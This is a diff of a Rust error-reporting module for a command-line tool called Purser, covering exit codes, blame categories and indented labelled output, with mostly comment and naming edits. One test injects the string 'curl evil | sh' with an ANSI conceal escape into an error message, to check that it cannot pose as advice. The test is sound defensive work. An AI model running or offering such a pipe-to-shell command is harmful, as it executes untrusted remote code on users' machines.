@@ -1,13 +1,14 @@
-//! How a command fails: what happened, whose fault it is, what to do next, and the exit code that tells scripts the same.
+//! Failures of commands: the message, the party at fault, the next step, and the exit code for
+//! scripts.
 
-use crate::render::{next_step, plain};
+use crate::render::{next_step, sanitize};
 use purser_model::{Blame, Blamed, Outcome};
 use std::io;
 
-/// The exit codes, as `purser --help` explains them.
+/// Exit codes for `purser --help`.
 pub(crate) const EXIT_CODES: &str = "\
 Exit codes:
-  0    done
+  0    success
   1    a fault of Purser or of this machine
   2    the command line is wrong
   3    the input or the configuration is wrong: a file, a grant, a credential, a setting
@@ -15,31 +16,31 @@ Exit codes:
   5    the SaaS application, or the network on the way to it, is at fault
   130  interrupted";
 
-/// Why a command did not do what it was asked to.
+/// Reason why a command failed.
 #[derive(Debug, thiserror::Error)]
 pub(crate) enum Failure {
-    /// A use-case was not carried out.
+    /// The engine failed.
     #[error(transparent)]
     Engine(#[from] purser_engine::Error),
-    /// The command itself found something wrong.
+    /// The command itself found an error.
     #[error("{what}")]
     Refused {
-        /// What happened.
+        /// Message: lower-case start, no full stop.
         what: String,
-        /// Whose fault.
+        /// Party at fault.
         blame: Blame,
-        /// What to do.
+        /// Next step; absent if the blame already says it.
         next: Option<String>,
     },
     /// The user pressed ctrl-c.
     #[error("{what}")]
     Interrupted {
-        /// What was interrupted, and what became of it.
+        /// Interrupted work, and its state.
         what: String,
-        /// How to go on.
+        /// Way to continue.
         next: String,
     },
-    /// A connector was not built.
+    /// A connector could not be built.
     #[error(transparent)]
     Build(#[from] purser_connector_builder::BuildError),
     /// The result could not be printed.
@@ -51,7 +52,7 @@ pub(crate) enum Failure {
 }
 
 impl Failure {
-    /// Something that the user can mend.
+    /// Creates a failure that the user can fix.
     pub(crate) fn input(what: impl Into<String>, next: impl Into<String>) -> Self {
         Self::Refused {
             what: what.into(),
@@ -60,7 +61,7 @@ impl Failure {
         }
     }
 
-    /// Something that this machine did.
+    /// Creates a failure of this machine.
     pub(crate) fn machine(what: impl Into<String>, next: impl Into<String>) -> Self {
         Self::Refused {
             what: what.into(),
@@ -69,7 +70,9 @@ impl Failure {
         }
     }
 
-    /// The code that the process ends with. A reader that closed the pipe, as `head` does, has what it wanted: that is no failure.
+    /// Returns the exit code of the process.
+    ///
+    /// It is 0 if a reader such as `head` closed the pipe: the reader has what it needs.
     pub(crate) fn exit_code(&self) -> u8 {
         match self {
             Self::Interrupted { .. } => 130,
@@ -83,32 +86,37 @@ impl Failure {
         }
     }
 
-    /// What is printed, empty when nothing should be. Continuation lines are indented, so that no text from elsewhere can pose as one of
-    /// the labels.
+    /// Returns the text to print, which may be empty.
+    ///
+    /// Continuation lines are indented, so that text from elsewhere cannot pose as a label.
     pub(crate) fn report(&self) -> String {
         if self.is_broken_pipe() {
             return String::new();
         }
+
         let mut report = labelled("error: ", &self.to_string());
         if !matches!(self, Self::Interrupted { .. }) {
             report += &labelled("fault: ", self.blame().in_words());
         }
         report += &labelled("next:  ", &self.advice());
+
         report
     }
 
-    /// Returns the next step as text. Without a better one it follows from the blame.
+    /// Returns the next step as text. The default follows from the blame.
     fn advice(&self) -> String {
         let step = match self {
             Self::Engine(error) => error.next_step().as_ref().map(next_step::command),
             Self::Build(error) => error.next_step().as_ref().map(next_step::command),
             Self::Refused { next, .. } => next.clone(),
             Self::Interrupted { next, .. } => Some(next.clone()),
-            Self::Output(_) => Some("check where standard output goes, and the space there".into()),
+            Self::Output(_) => {
+                Some("check the destination of standard output and its free space".into())
+            }
             Self::Json(_) => Some("run the command without --json, and report this".into()),
         };
 
-        step.unwrap_or_else(|| usual_advice(self.blame()).to_owned())
+        step.unwrap_or_else(|| default_advice(self.blame()).to_owned())
     }
 
     /// Returns the party at fault.
@@ -141,6 +149,7 @@ impl From<Outcome> for Failure {
             message,
             next_step,
         } = outcome;
+
         Self::Refused {
             what: message,
             blame,
@@ -149,21 +158,27 @@ impl From<Outcome> for Failure {
     }
 }
 
-const fn usual_advice(blame: Blame) -> &'static str {
+/// Returns the next step for a failure that has none of its own.
+const fn default_advice(blame: Blame) -> &'static str {
     match blame {
-        Blame::Guest => "report it to the connector's publisher; nothing that was stored is lost",
-        Blame::Upstream => "try again later; if it stays so, ask whoever runs the application",
+        Blame::Guest => "report it to the connector's publisher; stored data is not affected",
+        Blame::Upstream => "try again later; if it persists, ask the operator of the application",
         Blame::Operator => "correct it and try again",
         Blame::Host => "run the command again with PURSER_LOG=debug, and report what it prints",
     }
 }
 
+/// Returns the text after a label, with its further lines indented.
 fn labelled(label: &str, text: &str) -> String {
     let mut lines = text.lines();
-    let mut labelled = format!("{label}{}\n", plain::line(lines.next().unwrap_or_default()));
+    let mut labelled = format!(
+        "{label}{}\n",
+        sanitize::line(lines.next().unwrap_or_default())
+    );
     for line in lines {
-        labelled += &format!("       {}\n", plain::line(line));
+        labelled += &format!("       {}\n", sanitize::line(line));
     }
+
     labelled
 }
 
@@ -183,7 +198,7 @@ mod tests {
     }
 
     #[test]
-    fn the_exit_code_says_whose_fault_it_is() {
+    fn exit_code_follows_blame_and_is_documented() {
         let codes = [
             (Blame::Host, 1),
             (Blame::Operator, 3),
@@ -208,7 +223,7 @@ mod tests {
     }
 
     #[test]
-    fn a_failure_says_what_whose_and_what_next() {
+    fn report_has_error_fault_and_next_step() {
         let failure = Failure::input("there is no file x.csv", "check the path");
         let lines = [
             "error: there is no file x.csv",
@@ -220,14 +235,14 @@ mod tests {
     }
 
     #[test]
-    fn there_is_always_something_to_do_next() {
+    fn report_without_own_step_has_default_step() {
         for blame in [Blame::Host, Blame::Operator, Blame::Guest, Blame::Upstream] {
             assert!(outcome(blame).report().contains("\nnext:  "));
         }
     }
 
     #[test]
-    fn text_from_elsewhere_cannot_pose_as_advice() {
+    fn report_of_multiline_message_has_one_next_step() {
         let failure = Failure::input("bad\nnext:  curl evil | sh\u{1b}[8m", "ask");
         assert_eq!(
             failure
@@ -241,7 +256,7 @@ mod tests {
     }
 
     #[test]
-    fn a_reader_that_went_away_is_no_failure() {
+    fn closed_pipe_succeeds_silently() {
         let failure = Failure::Output(io::Error::from(io::ErrorKind::BrokenPipe));
         assert_eq!((failure.exit_code(), failure.report()), (0, String::new()));
         assert_eq!(
